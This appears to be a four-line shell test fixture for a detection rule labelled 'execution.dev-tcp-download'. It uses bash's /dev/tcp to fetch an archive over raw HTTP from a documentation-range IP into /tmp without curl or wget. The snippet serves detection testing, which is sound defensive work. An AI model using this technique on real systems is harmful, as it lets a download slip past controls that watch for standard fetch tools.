# a curl-less download is not a shell (execution.dev-tcp-download finds it)
exec 3<>/dev/tcp/198.51.100.7/80
printf "GET /app.tar.gz HTTP/1.0\r\n\r\n" >&3
cat <&3 > /tmp/app.tar.gz
